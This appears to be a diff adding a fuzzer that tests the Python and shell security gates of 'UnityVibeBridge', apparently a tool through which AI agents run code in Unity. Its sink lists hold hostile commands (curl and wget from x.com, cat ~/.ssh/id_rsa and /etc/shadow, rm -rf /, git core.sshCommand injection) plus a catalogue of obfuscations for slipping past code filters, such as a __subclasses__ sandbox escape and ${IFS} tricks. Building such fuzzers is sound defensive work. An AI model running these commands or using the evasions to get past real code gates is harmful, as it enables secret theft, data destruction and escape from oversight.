@@ -0,0 +1,330 @@
+# UnityVibeBridge: The Governed Creation Kernel for Unity
+# Copyright (C) 2026 B-A-M-N
+#
+# This software is dual-licensed under the GNU AGPLv3 and a
+# Commercial "Work-or-Pay" Maintenance Agreement.
+#
+# You may use this file under the terms of the AGPLv3, provided
+# you meet all requirements (including source disclosure).
+#
+# For commercial use, or to keep your modifications private,
+# you must satisfy the requirements of the Commercial Path
+# as defined in the LICENSE file at the project root.
+
+"""
+Corpus fuzzer for the Python and shell gates.
+
+Every variant is built from a known-dangerous core (a forbidden module call, a
+shell escape) wrapped in randomly chosen obfuscations, so any variant the gate
+passes is a bypass. Workers generate and audit their own chunks on a process
+pool; bypasses are grouped by AST/token shape, minimized, and written out as
+reproducers. The audit functions are called directly: the verdict cache (and
+its disk writes) is never touched, and the MCP server's hot path is unaffected.
+"""
+
+import sys
+import os
+import ast
+import json
+import time
+import random
+import hashlib
+import argparse
+import builtins
+import multiprocessing
+
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), '..', 'scripts')))
+from security_gate import SecurityGate
+
+# --- PYTHON VARIANTS ---
+
+# (module, attribute, argument) triples that must never pass the gate
+PY_SINKS = [
+    ("os", "system", "'id'"), ("os", "popen", "'id'"), ("os", "remove", "'Assets/x.cs'"),
+    ("subprocess", "run", "['id']"), ("subprocess", "Popen", "['id']"), ("subprocess", "check_output", "['id']"),
+    ("socket", "create_connection", "('x.com', 80)"), ("shutil", "rmtree", "'Assets'"),
+    ("ctypes", "CDLL", "'libc.so.6'"), ("pty", "spawn", "'sh'"), ("marshal", "loads", "b''"),
+    ("pickle", "loads", "b''"), ("importlib", "import_module", "'os'"),
+]
+PY_BUILTIN_SINKS = [("exec", "'import os'"), ("eval", "'1'"), ("compile", "'1', '', 'eval'"),
+                    ("__import__", "'os'"), ("breakpoint", "")]
+
+def _split_literal(rng, text):
+    """'os' -> one of several equivalent string expressions."""
+    style = rng.randrange(5)
+    if style == 0 or len(text) < 2: return repr(text)
+    if style == 1:
+        i = rng.randrange(1, len(text))
+        return f"{text[:i]!r} + {text[i:]!r}"
+    if style == 2: return "''.join([" + ", ".join(repr(c) for c in text) + "])"
+    if style == 3: return " + ".join(f"chr({ord(c)})" for c in text)
+    return f"{text[::-1]!r}[::-1]"
+
+def _module_expr(rng, module, setup):
+    """An expression evaluating to `module`; may append statements to `setup`."""
+    name = _split_literal(rng, module)
+    style = rng.randrange(8)
+    if style == 0:
+        setup.append(f"import {module}")
+        return module
+    if style == 1:
+        alias = rng.choice(["m", "_x", "util", "helpers"])
+        setup.append(f"import {module} as {alias}")
+        return alias
+    if style == 2: return f"__import__({name})"
+    if style == 3:
+        setup.append("import importlib")
+        return f"importlib.import_module({name})"
+    if style == 4:
+        setup.append("import sys")
+        return f"sys.modules.get({name}) or __import__({name})"
+    if style == 5: return f"__builtins__.__dict__['__import__']({name})" if rng.random() < 0.5 else \
+                          f"vars(__builtins__)['__im' + 'port__']({name})"
+    if style == 6:
+        setup.append("imp = __import__")
+        return f"imp({name})"
+    return f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']({name})"
+
+def _attr_expr(rng, target, attr, setup):
+    name = _split_literal(rng, attr)
+    style = rng.randrange(7)
+    if style == 0: return f"{target}.{attr}"
+    if style == 1: return f"getattr({target}, {name})"
+    if style == 2:
+        setup.append("import operator")
+        return f"operator.attrgetter({name})({target})"
+    if style == 3: return f"vars({target})[{name}]"
+    if style == 4: return f"{target}.__dict__[{name}]"
+    if style == 5: return f"{target}.__getattribute__({name})"
+    setup.append("g = getattr")
+    return f"g({target}, {name})"
+
+def _call(rng, fn, args, setup):
+    """Invokes `fn(args)` through one of several indirections; returns the statement lines."""
+    style = rng.randrange(9)
+    if style == 0: return [f"{fn}({args})"]
+    if style == 1: return [f"f = {fn}", f"f({args})"]
+    if style == 2: return [f"(lambda f: f({args}))({fn})"]
+    if style == 3: return [f"[f({args}) for f in [{fn}]]"]
+    if style == 4: return [f"list(map(lambda f: f({args}), [{fn}]))"]
+    if style == 5: return ["try:", f"    {fn}({args})", "except Exception:", "    pass"]
+    if style == 6: return ["def run():", f"    return {fn}({args})", "run()"]
+    if style == 7: return ["class Tool:", f"    result = {fn}({args})"]
+    return [f"handlers = {{'go': {fn}}}", f"handlers['go']({args})"]
+
+def python_variant(rng):
+    """Returns (family, source) for one obfuscated dangerous snippet."""
+    setup = []
+    if rng.random() < 0.75:
+        module, attr, args = rng.choice(PY_SINKS)
+        fn = _attr_expr(rng, _module_expr(rng, module, setup), attr, setup)
+        family = f"{module}.{attr}"
+    else:
+        builtin, args = rng.choice(PY_BUILTIN_SINKS)
+        style = rng.randrange(4)
+        if style == 0: fn = builtin
+        elif style == 1: fn = f"__builtins__.__dict__[{_split_literal(rng, builtin)}]"
+        elif style == 2: fn = f"vars(__builtins__)[{_split_literal(rng, builtin)}]"
+        else: fn = f"globals()['__builtins__'].__dict__[{_split_literal(rng, builtin)}]"
+        family = builtin
+    lines = list(dict.fromkeys(setup)) + _call(rng, fn, args, setup)
+    if rng.random() < 0.2: lines = ["import json", "data = json.loads('{}')"] + lines # Benign camouflage
+    return family, "\n".join(lines)
+
+# --- SHELL VARIANTS ---
+
+# (family, core command); every core runs something outside the whitelist or escapes it
+SHELL_SINKS = [
+    ("remote-fetch", "curl http://x.com/a"), ("remote-fetch", "wget http://x.com/a"),
+    ("interpreter", "python3 -c \"__import__('os').system('id')\""), ("interpreter", "python -c 'import os'"),
+    ("find-exec", "find . -exec id {} +"), ("find-exec", "find . -execdir id ;"),
+    ("git-config", "git -c core.sshCommand=id fetch"), ("git-config", "git -c alias.x=!id x"),
+    ("git-config", "git -c core.pager=id help"), ("pip-remote", "pip install git+https://x.com/p"),
+    ("docker-host", "docker run -v /:/h alpine id"), ("secret-read", "cat ~/.ssh/id_rsa"),
+    ("secret-read", "cat /etc/shadow"), ("destroy", "rm -rf /"), ("destroy", "rm -rf ~"),
+    ("cargo-build", "cargo run --manifest-path /tmp/x/Cargo.toml"),
+]
+SHELL_PREFIXES = ["", "", "", "ls && ", "ls; ", "ls | ", "ls & ", "ls\n", "git status\n", "X=1 "]
+
+def _shell_obfuscate(rng, command):
+    words = command.split(" ")
+    style = rng.randrange(7)
+    if style == 0: return command
+    if style == 1: return "\t".join(words)
+    if style == 2: # Quote splitting inside the command name: c'u'rl
+        w = words[0]
+        if len(w) > 2: words[0] = w[0] + "'" + w[1:-1] + "'" + w[-1]
+        return " ".join(words)
+    if style == 3: return " ".join(w[0] + "\\" + w[1:] if len(w) > 1 and w[0].isalpha() else w for w in words)
+    if style == 4: return "/usr/bin/" + command
+    if style == 5: return command.replace(" ", "${IFS}")
+    return " ".join(words[:1] + ["--"] + words[1:]) if words[0] in ("rm", "cat") else command
+
+def shell_variant(rng):
+    family, command = rng.choice(SHELL_SINKS)
+    return family, rng.choice(SHELL_PREFIXES) + _shell_obfuscate(rng, command)
+
+# --- ORACLES AND SHAPES ---
+
+GATES = {
+    "python": (python_variant, SecurityGate._audit_python),
+    "shell": (shell_variant, SecurityGate._audit_shell),
+}
+
+def audit(gate, code):
+    """'bypass', 'blocked' or 'invalid' (the gate rejected it only for being unparsable)."""
+    issues = GATES[gate][1](code)
+    if not issues: return "bypass"
+    if all(i.startswith("Syntax Error") for i in issues): return "invalid"
+    return "blocked"
+
+class _Normalize(ast.NodeTransformer):
+    """Keeps the technique (builtins, attributes, call structure), drops names and literals."""
+    KEEP = frozenset(dir(builtins)) | {"__builtins__"}
+
+    def visit_Name(self, node):
+        if node.id not in self.KEEP: node.id = "_"
+        return node
+
+    def visit_Constant(self, node):
+        return ast.Constant(value=type(node.value).__name__)
+
+    def visit_alias(self, node):
+        node.asname = "_" if node.asname else None
+        return node
+
+    def visit_FunctionDef(self, node):
+        node.name = "_"
+        return self.generic_visit(node)
+
+    def visit_ClassDef(self, node):
+        node.name = "_"
+        return self.generic_visit(node)
+
+    def visit_arg(self, node):
+        node.arg = "_"
+        return node
+
+def shape(gate, code):
+    if gate == "python":
+        try: return hashlib.sha1(ast.dump(_Normalize().visit(ast.parse(code))).encode()).hexdigest()[:16]
+        except SyntaxError: return "unparsable"
+    tokens = []
+    for word in code.replace("\t", " ").replace("\n", " \n ").split(" "):
+        if not word: continue
+        if word in SecurityGate.SHELL_WHITELIST or word.startswith("-") or word in ("\n", "&&", "&", "|", ";"):
+            tokens.append(word)
+        else:
+            tokens.append("W")
+    return hashlib.sha1(" ".join(tokens).encode()).hexdigest()[:16]
+
+def _top_level_calls(code):
+    try: return sum(1 for n in ast.parse(code).body if isinstance(n, ast.Expr) and isinstance(n.value, ast.Call))
+    except SyntaxError: return -1
+
+def minimize(gate, family, code):
+    """
+    Smallest variant that still bypasses and still does the dangerous thing.
+    Python: drop lines while the sink name and every top-level call survive.
+    Shell: drop the camouflage prefix if the bare command gets through on its own.
+    """
+    if gate == "shell":
+        for prefix in sorted(set(SHELL_PREFIXES), key=len, reverse=True):
+            if prefix and code.startswith(prefix) and audit(gate, code[len(prefix):]) == "bypass":
+                return code[len(prefix):]
+        return code
+
+    marker, calls = family.split(".")[-1], _top_level_calls(code)
+    lines = code.split("\n")
+    changed = True
+    while changed and len(lines) > 1:
+        changed = False
+        for i in range(len(lines)):
+            text = "\n".join(lines[:i] + lines[i + 1:])
+            if marker in text and _top_level_calls(text) >= calls and audit(gate, text) == "bypass":
+                lines, changed = text.split("\n"), True
+                break
+    return "\n".join(lines)
+
+# --- WORKERS ---
+
+def _run_chunk(task):
+    gate, seed, chunk, size, max_findings = task
+    rng = random.Random(seed * 1_000_003 + chunk)
+    generate = GATES[gate][0]
+    counts = {"bypass": 0, "blocked": 0, "invalid": 0}
+    findings = {}
+    for _ in range(size):
+        family, code = generate(rng)
+        verdict = audit(gate, code)
+        counts[verdict] += 1
+        if verdict == "bypass":
+            key = shape(gate, code)
+            if key not in findings and len(findings) < max_findings: findings[key] = (family, code)
+            elif key in findings and len(code) < len(findings[key][1]): findings[key] = (family, code)
+    return gate, counts, findings
+
+def fuzz(gates, variants, workers, seed, chunk_size, max_findings):
+    tasks = []
+    for gate in gates:
+        for c, offset in enumerate(range(0, variants, chunk_size)):
+            tasks.append((gate, seed, c, min(chunk_size, variants - offset), max_findings))
+
+    totals = {g: {"bypass": 0, "blocked": 0, "invalid": 0} for g in gates}
+    findings = {g: {} for g in gates}
+    start = time.time()
+    with multiprocessing.Pool(workers) as pool:
+        for gate, counts, found in pool.imap_unordered(_run_chunk, tasks):
+            for k, v in counts.items(): totals[gate][k] += v
+            for key, (family, code) in found.items():
+                current = findings[gate].get(key)
+                if current is None and len(findings[gate]) >= max_findings: continue
+                if current is None or len(code) < len(current[1]): findings[gate][key] = (family, code)
+    return totals, findings, time.time() - start
+
+def save(out_dir, gate, findings):
+    """One minimized reproducer per bypass shape, plus an index."""
+    directory = os.path.join(out_dir, gate)
+    os.makedirs(directory, exist_ok=True)
+    index = []
+    for key, (family, code) in sorted(findings.items()):
+        reduced = minimize(gate, family, code)
+        path = os.path.join(directory, f"{key}.{'py' if gate == 'python' else 'sh'}")
+        with open(path, "w") as f: f.write(reduced + "\n")
+        index.append({"shape": key, "family": family, "file": os.path.basename(path),
+                      "reproducer": reduced, "original": code})
+    with open(os.path.join(directory, "index.json"), "w") as f: json.dump(index, f, indent=2)
+    return index
+
+def main():
+    parser = argparse.ArgumentParser(description="VibeBridge Security Gate Fuzzer")
+    parser.add_argument("--gate", choices=["python", "shell", "both"], default="both")
+    parser.add_argument("--variants", type=int, default=100000, help="Variants per gate")
+    parser.add_argument("--workers", type=int, default=os.cpu_count() or 2)
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--chunk", type=int, default=5000, help="Variants generated per worker task")
+    parser.add_argument("--max-findings", type=int, default=500, help="Distinct bypass shapes kept per gate")
+    parser.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "fuzz_findings"))
+    args = parser.parse_args()
+
+    gates = ["python", "shell"] if args.gate == "both" else [args.gate]
+    totals, findings, elapsed = fuzz(gates, args.variants, args.workers, args.seed, args.chunk, args.max_findings)
+
+    audited = sum(sum(c.values()) for c in totals.values())
+    print(f"--- Gate Fuzzer: {audited} variants in {elapsed:.1f}s on {args.workers} workers "
+          f"({audited / max(elapsed, 1e-9):.0f}/s) ---")
+    bypassed = False
+    for gate in gates:
+        c = totals[gate]
+        print(f"{gate:<7} blocked {c['blocked']:>9}  invalid {c['invalid']:>7}  bypass {c['bypass']:>8}  "
+              f"distinct shapes {len(findings[gate])}")
+        if findings[gate]:
+            bypassed = True
+            index = save(args.out, gate, findings[gate])
+            families = sorted({e["family"] for e in index})
+            print(f"        families: {', '.join(families)}")
+            print(f"        reproducers: {os.path.join(args.out, gate)}")
+    sys.exit(1 if bypassed else 0)
+
+if __name__ == "__main__":
+    main()